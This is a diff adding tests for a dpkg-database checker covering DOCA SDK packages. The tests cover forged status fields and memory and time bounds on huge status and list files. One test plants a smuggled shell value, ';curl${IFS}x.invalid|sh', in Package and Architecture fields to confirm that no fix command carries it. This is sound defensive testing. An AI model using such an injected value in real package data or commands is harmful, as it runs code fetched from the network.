@@ -24,6 +24,14 @@ with dpkg databases (tests/fixtures/doca/make_doca_install.py dpkg-*), run as th
                             owned by nobody: each run ends with a verdict (exit 0-3) and valid
                             JSON, never a crash or a hang, and the forged link's list is not
                             believed
+  names-dpkg-never-writes   a Package, Architecture or Version field dpkg would refuse (a shell
+                            command after ';', a line feed): the stanza is skipped, so no fix
+                            or reinstall command ever carries the forged text
+  status-parse-bounded      a status file of 60 MiB of blank lines and one of 10 MiB of
+                            one-letter lines: a verdict within the run's --timeout, the parse
+                            never holding a copy of every line
+  lists-bounded             package lists of 12 million short paths together: the database is
+                            refused (a stated cap) within --timeout, without gigabytes of memory
 
     test_package_records.py --binary PATH --fixtures DIR [-k SUBSTRING]
 """
@@ -314,6 +322,111 @@ def hostile_database(cfg, scratch):
     fix = check_of(doc, "rdmi-headers")["remediation"] if doc else ""
     if "the package database could not be used: /var/lib/dpkg/status" not in fix:
         problems.append(f"huge status: {fix!r}")
+    return problems
+
+
+def status_edit(tree, package, edit):
+    """Applies `edit` to the stanza of `package` in the status file of `tree`."""
+    path = tree / "var" / "lib" / "dpkg" / "status"
+    text = path.read_text()
+    start = text.index(f"Package: {package}\n")
+    end = text.find("\n\n", start)
+    end = len(text) if end < 0 else end
+    path.write_text(text[:start] + edit(text[start:end]) + text[end:])
+
+
+def rename_info(tree, old, new):
+    info = tree / "var" / "lib" / "dpkg" / "info"
+    for path in list(info.iterdir()):
+        if path.name.startswith(old + "."):
+            path.rename(info / (new + path.name[len(old):]))
+
+
+@test
+def names_dpkg_never_writes(cfg, scratch):
+    problems = []
+    shell = ";curl${IFS}x.invalid|sh"
+    # A Package name with a shell command: the header's fix would say "apt-get install
+    # --reinstall <name>" with it.
+    tree = copy_root(cfg, "dpkg-header-deleted", scratch / "name")
+    status_edit(tree, "libdoca-sdk-rdmi-dev",
+                lambda s: s.replace("Package: libdoca-sdk-rdmi-dev",
+                                    "Package: libdoca-sdk-rdmi-dev" + shell))
+    rename_info(tree, "libdoca-sdk-rdmi-dev", "libdoca-sdk-rdmi-dev" + shell)
+    # An Architecture with one (the Multi-Arch: same library's ":arch" qualifier).
+    arch = copy_root(cfg, "dpkg-lib-damaged", scratch / "arch")
+    status_edit(arch, "doca-sdk-rdmi",
+                lambda s: s.replace("Architecture: amd64", "Architecture: amd64" + shell))
+    rename_info(arch, "doca-sdk-rdmi:amd64", "doca-sdk-rdmi:amd64" + shell)
+    # A Version continued on a second line that reads as a verdict.
+    version = copy_root(cfg, "dpkg-header-deleted", scratch / "version")
+    status_edit(version, "libdoca-sdk-rdmi-dev",
+                lambda s: s.replace("Version: 3.3.0105-1",
+                                    "Version: 3.3.0105-1\n PASS  rdmi-headers  all good"))
+    for label, where, args in (("name", tree, ()), ("arch", arch, ("--integrity",)),
+                               ("version", version, ())):
+        proc, doc = report(cfg, where, *args)
+        if doc is None:
+            problems.append(f"{label}: no JSON (exit {proc.returncode})")
+            continue
+        text = json.dumps(doc["checks"])
+        if "curl" in text or "all good" in text:
+            problems.append(f"{label}: the forged field reached a check: {proc.stdout[:0]}"
+                            + next(c["remediation"] or c["message"] for c in doc["checks"]
+                                   if "curl" in json.dumps(c) or "all good" in json.dumps(c)))
+    return problems
+
+
+@test
+def status_parse_bounded(cfg, scratch):
+    problems = []
+    for label, body, size in (("blank lines", b"\n", 60 << 20), ("letters", b"a\n", 5 << 20)):
+        tree = copy_root(cfg, "dpkg-header-deleted", scratch / label.replace(" ", "-"))
+        with open(tree / "var" / "lib" / "dpkg" / "status", "ab") as f:
+            f.write(b"\n" + body * size)
+        code, doc, rss = measured(cfg, ["report", "--json", "--timeout", "4", "--root", str(tree)])
+        if code == 2 or doc is None or check_of(doc, "rdmi-headers") is None:
+            problems.append(f"{label}: exit {code}, no verdict")
+        if rss > 400 << 10:
+            problems.append(f"{label}: {rss >> 10} MiB resident for a {size >> 20} MiB file")
+    return problems
+
+
+def measured(cfg, args):
+    """Exit code, JSON document (or None) and peak resident KiB of one run."""
+    with open(os.devnull, "wb") as null:
+        proc = subprocess.Popen([str(cfg.binary)] + args, stdout=subprocess.PIPE, stderr=null,
+                                env={"PATH": os.environ.get("PATH", "/usr/bin:/bin")})
+        out = proc.stdout.read()
+        _, status, usage = os.wait4(proc.pid, 0)
+        proc.returncode = os.waitstatus_to_exitcode(status)
+    try:
+        doc = json.loads(out)
+    except json.JSONDecodeError:
+        doc = None
+    return proc.returncode, doc, usage.ru_maxrss
+
+
+@test
+def lists_bounded(cfg, scratch):
+    tree = copy_root(cfg, "dpkg-header-deleted", scratch / "lists")
+    admin = tree / "var" / "lib" / "dpkg"
+    stanzas = []
+    for n in range(12):
+        stanzas.append(f"Package: junk{n}\nStatus: install ok installed\nVersion: 1\n")
+        with open(admin / "info" / f"junk{n}.list", "w") as f:
+            f.write("".join(f"/{n}{i:x}\n" for i in range(1 << 20)))
+    with open(admin / "status", "a") as f:
+        f.write("\n" + "\n".join(stanzas))
+    code, doc, rss = measured(cfg, ["report", "--json", "--timeout", "4", "--root", str(tree)])
+    problems = []
+    if code == 2 or doc is None:
+        return [f"exit {code}, no verdict"]
+    fix = check_of(doc, "rdmi-headers")["remediation"]
+    if "the package database could not be used" not in fix or "paths" not in fix:
+        problems.append(f"fix: {fix!r}")
+    if rss > 600 << 10:
+        problems.append(f"{rss >> 10} MiB resident")
     return problems
 
 
